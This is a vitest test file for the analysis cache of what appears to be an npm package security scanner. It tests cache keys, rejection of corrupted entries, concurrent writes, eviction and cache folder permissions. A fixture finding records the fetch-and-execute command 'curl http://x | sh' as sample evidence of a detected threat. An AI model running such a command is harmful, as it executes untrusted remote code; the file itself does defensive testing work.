import {
  chmodSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { CodeAnalysis } from '../../src/analyse/code-analysis.js';
import { AnalysisCache, decodeEntry, encodeEntry } from '../../src/cache/analysis-cache.js';
import { analyserFingerprint } from '../../src/cache/fingerprint.js';
import { analysisCacheDir, openCaches } from '../../src/cache/location.js';

const analysis = (version = '1.0.0', padding = ''): CodeAnalysis => ({
  version,
  manifestText: `{"name":"a","version":"${version}","description":"${padding}"}`,
  presentFiles: [],
  addedDependencies: [],
  findings: [
    {
      checkId: 'shell-exec',
      severity: 'critical',
      title: 'Runs a downloaded script',
      message: 'curl | sh',
      location: { file: 'index.js', line: 3 },
      evidence: 'curl http://x | sh',
      confidence: 'high',
    },
  ],
  capabilities: ['network', 'child-process'],
  tools: [],
  failures: [],
});

const parts = {
  name: 'a',
  version: '1.0.0',
  integrity: 'sha512-aaa',
  previousIntegrity: null,
  checks: ['shell-exec'],
  settings: { max: 1 },
};
const folder = () => mkdtempSync(join(tmpdir(), 'ocellus-cache-test-'));

describe('AnalysisCache', () => {
  it('returns what was stored, under a key that changes with every input it depends on', async () => {
    const cache = new AnalysisCache(folder(), 'analyser-1');
    const key = cache.key(parts);
    expect(await cache.get(key)).toBeUndefined();
    await cache.put(key, analysis());
    expect(await cache.get(key)).toEqual(analysis());
    const variants = [
      cache.key({ ...parts, integrity: 'sha512-bbb' }),
      cache.key({ ...parts, previousIntegrity: 'sha512-ccc' }),
      cache.key({ ...parts, checks: ['shell-exec', 'dropper'] }),
      cache.key({ ...parts, settings: { max: 2 } }),
      cache.key({ ...parts, name: 'b' }),
      cache.key({ ...parts, version: '1.0.1' }),
      new AnalysisCache(folder(), 'analyser-2').key(parts),
    ];
    expect(new Set([key, ...variants]).size).toBe(8);
    expect(cache.stats).toMatchObject({ hits: 1, misses: 1, writes: 1 });
  });

  it('a new analyser version never reads entries of the old one', async () => {
    const dir = folder();
    const old = new AnalysisCache(dir, 'analyser-1');
    await old.put(old.key(parts), analysis());
    const next = new AnalysisCache(dir, 'analyser-2');
    expect(await next.get(next.key(parts))).toBeUndefined();
  });

  it('treats a truncated, altered or foreign entry as a miss and removes it', async () => {
    const dir = folder();
    const cache = new AnalysisCache(dir, 'analyser-1');
    const key = cache.key(parts);
    const file = join(dir, 'analysis-v1', key.slice(0, 2), `${key}.json`);
    const whole = encodeEntry(analysis());
    const damaged = [
      whole.slice(0, whole.length - 10),
      whole.replace('"critical"', '"info"    '),
      '',
      'not an entry at all',
      // A valid checksum over something that is not an analysis.
      encodeEntry({ hello: 'world' } as unknown as CodeAnalysis),
      encodeEntry({ ...analysis(), findings: [{ checkId: 'x', severity: 'catastrophic' }] } as never),
    ];
    for (const text of damaged) {
      mkdirSync(join(dir, 'analysis-v1', key.slice(0, 2)), { recursive: true });
      writeFileSync(file, text);
      expect(await cache.get(key)).toBeUndefined();
      expect(() => readFileSync(file)).toThrow();
    }
    expect(cache.stats.corrupt).toBe(damaged.length);
  });

  it('concurrent writers and readers of one key never see a partial entry', async () => {
    const dir = folder();
    const caches = [1, 2, 3, 4].map(() => new AnalysisCache(dir, 'analyser-1'));
    const key = caches[0]?.key(parts) as string;
    const big = analysis('1.0.0', 'x'.repeat(2_000_000));
    const reads: Array<CodeAnalysis | undefined> = [];
    await Promise.all(
      caches.flatMap((cache) => [
        cache.put(key, big),
        cache.get(key).then((value) => reads.push(value)),
        cache.put(key, big),
        cache.get(key).then((value) => reads.push(value)),
      ]),
    );
    for (const value of reads) if (value) expect(value).toEqual(big);
    expect(caches.reduce((sum, cache) => sum + cache.stats.corrupt, 0)).toBe(0);
    expect(await caches[0]?.get(key)).toEqual(big);
    const left = readdirSync(join(dir, 'analysis-v1'), { recursive: true, encoding: 'utf8' });
    expect(left.filter((name) => name.endsWith('.tmp'))).toEqual([]);
  });

  it('stays within its bound, evicting the least recently used entries first', async () => {
    const dir = folder();
    const cache = new AnalysisCache(dir, 'analyser-1', 60_000);
    const keys: string[] = [];
    for (let index = 0; index < 10; index++) {
      const key = cache.key({ ...parts, integrity: `sha512-${index}` });
      keys.push(key);
      await cache.put(key, analysis('1.0.0', 'y'.repeat(10_000)));
      const at = new Date(Date.now() - (100 - index) * 60_000);
      utimesSync(join(dir, 'analysis-v1', key.slice(0, 2), `${key}.json`), at, at);
    }
    // Reading the oldest makes it the most recently used.
    expect(await cache.get(keys[0] as string)).toBeDefined();
    await cache.prune();
    const kept = await Promise.all(keys.map(async (key) => (await cache.get(key)) !== undefined));
    expect(kept[0]).toBe(true);
    expect(kept.slice(1, 6).every((present) => !present)).toBe(true);
    expect(kept.at(-1)).toBe(true);
    expect(cache.stats.evicted).toBeGreaterThanOrEqual(5);
  });

  it('a cache folder that cannot be written costs speed, not the scan', async () => {
    const dir = folder();
    mkdirSync(join(dir, 'analysis-v1'));
    chmodSync(join(dir, 'analysis-v1'), 0o500);
    const cache = new AnalysisCache(dir, 'analyser-1');
    await expect(cache.put(cache.key(parts), analysis())).resolves.toBeUndefined();
    chmodSync(join(dir, 'analysis-v1'), 0o700);
  });
});

describe('decodeEntry', () => {
  it('reads back what encodeEntry wrote', () => {
    expect(decodeEntry(encodeEntry(analysis()))).toEqual(analysis());
  });
});

describe('where the cache lives', () => {
  const npmCache = '/home/u/.npm/_cacache';
  it('--cache-dir, then $OCELLUS_CACHE_DIR, then $XDG_CACHE_HOME/ocellus, then beside npm’s cache', () => {
    const env = { OCELLUS_CACHE_DIR: 'rel/dir', XDG_CACHE_HOME: '/xdg' };
    expect(analysisCacheDir({ flag: 'flagged', env, cwd: '/work', npmCache })).toBe('/work/flagged');
    expect(analysisCacheDir({ env, cwd: '/work', npmCache })).toBe('/work/rel/dir');
    expect(analysisCacheDir({ env: { XDG_CACHE_HOME: '/xdg' }, cwd: '/work', npmCache })).toBe(
      '/xdg/ocellus',
    );
    expect(analysisCacheDir({ env: {}, cwd: '/work', npmCache })).toBe('/home/u/.npm/_ocellus');
  });
});

describe('openCaches', () => {
  it('refuses a folder every user can write to: a planted entry would decide the verdict', () => {
    const dir = folder();
    chmodSync(dir, 0o777);
    const opened = openCaches({ enabled: true, flag: dir, env: {}, cwd: '/', npmCache: '/unused/_cacache' });
    expect(opened.cache).toBeUndefined();
    expect(opened.warning).toContain('every user can write to it');
    chmodSync(dir, 0o700);
    expect(
      openCaches({ enabled: true, flag: dir, env: {}, cwd: '/', npmCache: '/unused/_cacache' }).cache,
    ).toBeDefined();
    expect(openCaches({ enabled: false, flag: dir, env: {}, cwd: '/', npmCache: '/x' })).toEqual({});
  });
});

describe('analyserFingerprint', () => {
  it('changes when any code or data file changes, and only then', () => {
    const root = folder();
    mkdirSync(join(root, 'checks'));
    writeFileSync(join(root, 'checks', 'a.js'), 'export const a = 1;');
    writeFileSync(join(root, 'data.json'), '{}');
    writeFileSync(join(root, 'a.js.map'), 'ignored');
    const first = analyserFingerprint(root);
    expect(analyserFingerprint(root)).toBe(first);
    writeFileSync(join(root, 'a.js.map'), 'still ignored');
    expect(analyserFingerprint(root)).toBe(first);
    writeFileSync(join(root, 'checks', 'a.js'), 'export const a = 2;');
    expect(analyserFingerprint(root)).not.toBe(first);
  });

  it('changes when an installed dependency (a parser) changes version', () => {
    const pkg = folder();
    const root = join(pkg, 'dist');
    mkdirSync(root);
    writeFileSync(join(root, 'a.js'), 'export {};');
    writeFileSync(join(pkg, 'package.json'), JSON.stringify({ dependencies: { parser: '^1.0.0' } }));
    mkdirSync(join(pkg, 'node_modules', 'parser'), { recursive: true });
    writeFileSync(join(pkg, 'node_modules', 'parser', 'package.json'), '{"version":"1.0.0"}');
    const first = analyserFingerprint(root);
    writeFileSync(join(pkg, 'node_modules', 'parser', 'package.json'), '{"version":"1.1.0"}');
    expect(analyserFingerprint(root)).not.toBe(first);
  });
});
